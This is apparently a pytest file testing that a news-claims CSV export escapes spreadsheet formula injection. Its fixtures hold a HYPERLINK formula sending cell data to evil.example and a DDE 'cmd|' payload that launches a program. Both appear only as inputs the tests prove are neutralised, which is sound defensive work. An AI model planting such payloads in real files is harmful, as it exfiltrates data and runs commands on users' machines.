"""Spreadsheet formula injection: no cell of a tabular export starts a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from helpers import FIXTURE_ARCHIVE, article_text

from generator.derive.analysis import derive_from_bodies
from generator.read.load import load_archive
from generator.render.export import (
    CLAIM_COLUMNS,
    FORMULA_START,
    csv_lines,
    data_files,
)

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Source")'
HOSTILE_QUOTE = f'{FORMULA} : 3.000 soldats'
FRONT = f"""id: formule
title: "+33 : un titre qui commence comme un numéro"
date: 2025-01-15
date_note: "@dimanche, selon le texte"
outlet: bfmtv
language: fr
topics: [troops]
claims:
  - topic: troops
    metric: deployed
    value: 3000
    qualifier: exact
    as_of: 2025-01
    as_of_note: "-1 jour avant la publication"
    attributed_to: jcs
    quote: {json.dumps(HOSTILE_QUOTE)}
"""
BODY = f"Le texte cite {HOSTILE_QUOTE} déployés en Russie."


def rows_of(data: bytes) -> list[dict]:
    """Rows as a French spreadsheet reads them: UTF-8 with a BOM, cells split on semicolons."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.fixture(scope="module")
def hostile_archive(tmp_path_factory):
    folder = tmp_path_factory.mktemp("csv") / "briefings"
    (folder / "articles").mkdir(parents=True)
    for meta in ("topics.yml", "actors.yml", "outlets.yml"):
        (folder / meta).write_bytes((FIXTURE_ARCHIVE / meta).read_bytes())
    (folder / "articles" / "formule.md").write_text(article_text(FRONT, BODY), encoding="utf-8")
    return load_archive(folder)


def test_a_quote_starting_a_formula_is_text_in_claims_csv(hostile_archive):
    files = data_files(hostile_archive, derive_from_bodies(hostile_archive))
    [row] = rows_of(files["data/claims.csv"])
    assert row["quote"] == f"'{HOSTILE_QUOTE}"
    assert row["as_of_note"] == "'-1 jour avant la publication"
    assert row["value"] == "3000"  # numbers are not touched
    # JSON is not read by spreadsheets: the quote stays as written.
    [claim] = json.loads(files["data/claims.json"])
    assert claim["quote"] == HOSTILE_QUOTE


@pytest.mark.parametrize("start", FORMULA_START)
def test_no_cell_starts_with_a_formula_character(start):
    hostile = f"{start}cmd|' /C calc'!A0"
    row = {column: hostile for column in CLAIM_COLUMNS}
    row.update(disputes=[hostile, "a/b"], value=3000, low=None)
    [written] = rows_of(b"".join(csv_lines([row])))
    for column, cell in written.items():
        assert not cell.startswith(FORMULA_START), (column, cell)
    shown = f"'{hostile}".replace("\r", "\n")  # a lone carriage return would break the row
    assert written["quote"] == shown
    assert written["disputes"] == f"{shown};a/b"
    assert (written["value"], written["low"]) == ("3000", "")


def test_ordinary_cells_are_unchanged():
    row = {column: "Séoul" for column in CLAIM_COLUMNS}
    row.update(disputes=["a/b"], quote="« 3 000 soldats » = beaucoup", value=0)
    [written] = rows_of(b"".join(csv_lines([row])))
    assert written["quote"] == "« 3 000 soldats » = beaucoup"
    assert written["claim_id"] == "Séoul" and written["value"] == "0"
